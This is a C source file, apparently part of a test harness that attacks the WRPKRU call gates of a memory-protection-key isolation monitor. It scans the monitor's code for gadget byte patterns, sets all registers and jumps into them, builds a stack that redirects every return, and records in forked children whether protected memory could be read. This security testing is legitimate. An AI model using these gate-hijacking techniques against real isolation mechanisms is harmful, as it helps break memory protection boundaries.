/* What the attacks on gates share: the monitor's machine code, as the harness read it from outside, and a try in a child of its own,
   which tells by shared memory whether it came out with the domain open. */
#include "attack.h"
#include <stddef.h>

static const unsigned char *code;
static size_t code_bytes;
static uintptr_t code_at;
static struct target targets[64];
static int target_count;

/* What a try leaves behind. */
struct trophy {
    volatile int open;        /* code of the program ran and could read the monitor's memory, or the stand-in */
    volatile uint32_t rights; /* PKRU at that moment */
};
static struct trophy *trophy;
static uintptr_t prize; /* the address it reads */

UNUSED static uint32_t rights_now(void) {
    uint32_t rights, high;
    __asm__ volatile("rdpkru" : "=a"(rights), "=d"(high) : "c"(0));
    return rights;
}
UNUSED static void set_rights(uint32_t rights) { __asm__ volatile("wrpkru" : : "a"(rights), "c"(0), "d"(0) : "memory"); }

/* Where a hijacked gate is made to return to. */
_Noreturn UNUSED static void came_out(void) {
    __asm__ volatile("and $-16, %%rsp" : : : "memory");
    trophy->rights = rights_now();
    /* A fault, or a call, is seen by the monitor: whoever gets past the load has it all. The parent reads the trophy. */
    (void)*(volatile unsigned char *)prize;
    trophy->open = 1;
    __asm__ volatile("ud2");
    __builtin_unreachable();
}

UNUSED static void know_the_monitor(void) {
    target_count = read_targets(targets, 64);
    close_stand_in(&targets[0]);
    if (!trophy) trophy = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    prize = targets[0].from;
    int file = open("monitor-code", O_RDONLY);
    for (int i = 0; i < target_count; i++)
        if (targets[i].executable && targets[i].to - targets[i].from > code_bytes) {
            code_at = targets[i].from;
            code_bytes = targets[i].to - targets[i].from;
            code = mmap(NULL, code_bytes, PROT_READ, MAP_PRIVATE, file, 0);
            if (file < 0 || code == MAP_FAILED) not_here("the monitor's code was not told");
        } else if (targets[i].writable)
            prize = targets[i].from;
}

/* The address of the next place with these bytes behind `from`, an address in the monitor's code or 0; 0: none. */
UNUSED static uintptr_t next_code(uintptr_t from, const void *bytes, size_t count) {
    if (!code) return 0;
    const unsigned char *start = from ? code + (from - code_at) + 1 : code;
    const unsigned char *found = memmem(start, (size_t)(code + code_bytes - start), bytes, count);
    return found ? code_at + (uintptr_t)(found - code) : 0;
}

struct registers {
    uint64_t rax, rbx, rcx, rdx, rsi, rdi, rbp, rsp, r8, r9, r10, r11, r12, r13, r14, r15, rflags, rip;
};

/* Every register as given, then a jump. */
_Noreturn UNUSED static void jump_with(const struct registers *r) {
    static _Thread_local struct registers mine;
    mine = *r;
    /* The stack that is being loaded may not be ours, so the target waits in memory and the flags come first. */
    __asm__ volatile("push %c[flags](%%rax)\n popfq\n"
                     "mov %c[rbx](%%rax), %%rbx\n mov %c[rcx](%%rax), %%rcx\n mov %c[rdx](%%rax), %%rdx\n mov %c[rsi](%%rax), %%rsi\n"
                     "mov %c[rdi](%%rax), %%rdi\n mov %c[rbp](%%rax), %%rbp\n mov %c[r8](%%rax), %%r8\n mov %c[r9](%%rax), %%r9\n"
                     "mov %c[r10](%%rax), %%r10\n mov %c[r12](%%rax), %%r12\n mov %c[r13](%%rax), %%r13\n mov %c[r14](%%rax), %%r14\n"
                     "mov %c[rsp](%%rax), %%rsp\n mov %c[rip](%%rax), %%r11\n mov %%r11, jump_target(%%rip)\n"
                     "mov %c[r11](%%rax), %%r11\n mov %c[r15](%%rax), %%r15\n mov (%%rax), %%rax\n jmp *jump_target(%%rip)\n"
                     ".pushsection .bss\n jump_target: .zero 8\n .popsection"
                     :
                     : "a"(&mine), [rbx] "i"(offsetof(struct registers, rbx)), [rcx] "i"(offsetof(struct registers, rcx)), [rdx] "i"(offsetof(struct registers, rdx)),
                       [rsi] "i"(offsetof(struct registers, rsi)), [rdi] "i"(offsetof(struct registers, rdi)), [rbp] "i"(offsetof(struct registers, rbp)),
                       [rsp] "i"(offsetof(struct registers, rsp)), [r8] "i"(offsetof(struct registers, r8)), [r9] "i"(offsetof(struct registers, r9)),
                       [r10] "i"(offsetof(struct registers, r10)), [r11] "i"(offsetof(struct registers, r11)), [r12] "i"(offsetof(struct registers, r12)),
                       [r13] "i"(offsetof(struct registers, r13)), [r14] "i"(offsetof(struct registers, r14)), [r15] "i"(offsetof(struct registers, r15)),
                       [flags] "i"(offsetof(struct registers, rflags)), [rip] "i"(offsetof(struct registers, rip))
                     : "memory");
    __builtin_unreachable();
}

/* A stack that leads every return to came_out. */
UNUSED static uintptr_t hostile_stack(void) {
    static uint64_t *stack;
    if (!stack) {
        stack = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        for (unsigned i = 0; i < (1 << 20) / 8; i++) stack[i] = (uint64_t)&came_out;
    }
    return (uintptr_t)stack + (1 << 19);
}

/* Tries it in a child. 1: the child came out with the domain open. */
UNUSED static int try_jump(const struct registers *registers) {
    trophy->open = 0;
    pid_t child = fork();
    if (child == 0) {
        alarm(20);
        jump_with(registers);
    }
    int status;
    waitpid(child, &status, 0);
    return trophy->open;
}

/* A gate without a check, the stand-in for the monitor's: the technique must work against it. */
__attribute__((naked, used)) static void careless_gate(void) {
    __asm__("xor %eax, %eax\n xor %ecx, %ecx\n xor %edx, %edx\n .globl careless_wrpkru\n careless_wrpkru: wrpkru\n mov %rsi, %rsp\n ret");
}
extern const char careless_wrpkru[];
